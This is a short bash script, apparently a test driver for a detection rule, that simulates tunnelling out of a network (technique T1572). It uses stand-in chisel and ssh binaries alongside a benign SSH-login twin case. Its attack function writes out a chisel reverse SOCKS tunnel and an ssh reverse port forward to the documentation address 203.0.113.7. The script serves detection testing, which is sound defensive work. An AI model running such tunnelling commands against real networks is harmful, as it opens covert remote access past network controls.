#!/bin/bash
# Tunnels out of the network are opened, by stand-ins.
#: title: Tunnelling tools
#: technique: T1572
#: needs: exec
#: rules: tunnel_tool_started
#: twin: somebody logs in by ssh
. "$DRIVERS/lib.sh"

attack() {
	stand_in chisel
	stand_in ssh
	chisel client https://203.0.113.7 R:socks
	ssh -N -f -R 2222:localhost:22 x@203.0.113.7
	did "$WORK/bin/chisel" "$WORK/bin/ssh"
}

twin() {
	stand_in ssh
	ssh -p 2222 admin@203.0.113.7 uptime
	did "$WORK/bin/ssh"
}

"$1"
